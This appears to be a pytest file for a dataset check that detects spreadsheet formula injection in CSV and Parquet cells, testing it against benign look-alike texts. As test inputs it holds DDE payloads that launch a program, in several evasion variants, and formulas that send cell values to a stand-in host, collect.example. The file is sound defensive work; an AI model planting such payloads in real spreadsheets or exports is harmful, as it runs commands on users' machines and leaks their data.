"""Cells that a spreadsheet would run, and honest ones that begin with the same signs."""

from __future__ import annotations

import pyarrow as pa
import pytest

from hauberk.controls.dataset.formula_cells import FormulaCells
from hauberk.core.control import findings_of
from hauberk.core.finding import Level
from hauberk.formats.tables import open_table, table_of, write_table
from hauberk.methods.cell_formulas import CellFormula, read_cell

LINK = "cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text",
    [
        f"={LINK}",
        f"+{LINK}",
        f"-2+3+{LINK}",
        f"@SUM(1+1)*{LINK}",
        f"\t={LINK}",
        f"\r\n={LINK}",
        f'"={LINK}"',
        f"\uff1d{LINK}",
        "=cmd|/C calc!A0",
        '=DDE("cmd";"/C calc";"A0")',
    ],
)
def test_links_to_programs_are_told_behind_every_sign(text):
    assert read_cell(text) is CellFormula.RUNS


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://collect.example/?v="&A1,"more")',
        '+WEBSERVICE("http://collect.example/"&A1)',
        '=IF(A1>0, ImportXML(CONCAT("http://collect.example/",A2), "//a"), "no way")',
        '=IMAGE("http://collect.example/a.png?"&A1)',
    ],
)
def test_functions_that_reach_out_are_told(text):
    assert read_cell(text) is CellFormula.REACHES_OUT


@pytest.mark.parametrize("text", ["@SUM(A1:A9)", "=SUM(1+1)", "=CONCATENATE(A1,B2)", "=NOW()"])
def test_usual_functions_are_told(text):
    assert read_cell(text) is CellFormula.PLAIN


HONEST = [
    *("-5", "+49 30 1234", "=)", "@handle", "- list item", "=", "= 42", "-x^2+3", "=> x"),
    *("=SUM(x_i)", "-log(p)", "- SUM(x) over i", "+IF(x > 1){", "-a|b!c", "=E2=80=99"),
    '@register("name")\ndef f(): pass',
    '- use HYPERLINK("http") to link',
    f"- see {LINK} for the attack",
    "+ IF you can (really)",
    "-rw-r--r-- 1 a b",
    '-exec("x")',
    f"'={LINK}",
    "@media (max-width: 600px)",
]


@pytest.mark.parametrize("text", HONEST)
def test_honest_texts_with_the_same_signs_are_not(text):
    assert read_cell(text) is CellFormula.NONE


@pytest.mark.parametrize("ending", ["csv", "parquet"])
def test_the_rows_are_named_in_files(tmp_path, ending):
    notes = [*HONEST, f"={LINK}", "plain", f"@SUM(1)*{LINK}"]
    path = tmp_path / f"t.{ending}"
    write_table([pa.RecordBatch.from_pydict({"n": range(len(notes)), "note": notes})], path)
    (finding,) = findings_of(FormulaCells().check(open_table(path)))
    assert finding.level is Level.DEFECT
    assert finding.location.field == "note"
    assert finding.location.rows == (len(HONEST), len(HONEST) + 2)


def test_a_column_that_holds_formulas_is_for_review():
    cells = [f'=HYPERLINK("http://docs.example/{row}","page")' for row in range(40)]
    table = table_of("t", [pa.RecordBatch.from_pydict({"link": cells})])
    (finding,) = findings_of(FormulaCells().check(table))
    assert finding.level is Level.REVIEW


def test_honest_cells_are_clean():
    table = table_of("t", [pa.RecordBatch.from_pydict({"note": HONEST})])
    assert not list(FormulaCells().check(table))
